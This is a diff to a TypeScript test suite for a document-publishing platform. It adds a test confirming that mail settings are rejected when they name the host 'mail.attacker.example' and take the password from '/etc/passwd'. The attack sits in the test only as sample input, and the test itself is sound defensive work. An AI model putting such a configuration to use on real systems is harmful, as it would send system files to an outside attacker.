@@ -28,7 +28,7 @@ spec:
 describe('a document from its draft to the shelf', () => {
   let desk: Desk;
   beforeAll(async () => {
-    desk = await openDesk();
+    desk = await openDesk({ environment: { TIDEMARK_SECRETS_DIR: '/etc/desk' } });
     await desk.apply(aDocuments());
     await vi.waitFor(() => expect(desk.platform.catalog.current().metrics.size).toBe(3), 5_000);
   });
@@ -89,6 +89,28 @@ describe('a document from its draft to the shelf', () => {
     expect((await check(gone)).impacts).toContainEqual(
       expect.objectContaining({ code: 'definition_broken', subject: 'AlertRule/orders-low' }),
     );
+  });
+
+  test('settings that would carry a file of the process to a mail server elsewhere are not handed in', async () => {
+    const text = (file: string) => `apiVersion: tidemark/v1
+kind: Settings
+metadata: { id: default }
+spec: { smtp: { host: mail.attacker.example, username: x, password: { file: ${file} }, from: a@b.example } }
+`;
+    const name = 'drafts/Settings/default';
+    const saved = await desk.ask<DocumentAnswer>('anna', `PUT ${name}`, {
+      text: text('/etc/passwd'),
+    });
+    expect(saved.body.draft).toMatchObject({
+      faults: [{ path: 'spec.smtp.password', code: 'field_invalid' }],
+    });
+    const submitted = await desk.ask('anna', `POST ${name}/submit`, {});
+    expect(submitted).toMatchObject({ status: 422, body: { code: 'catalog_invalid' } });
+    const own = await desk.ask<CheckAnswer>('guest', 'POST check', {
+      text: text('/etc/desk/smtp'),
+    });
+    expect(own.body.faults).toEqual([]);
+    expect((await desk.ask('anna', `DELETE ${name}`, {})).status).toBe(200);
   });
 
   test('a draft may have faults, and changes nothing that is published', async () => {
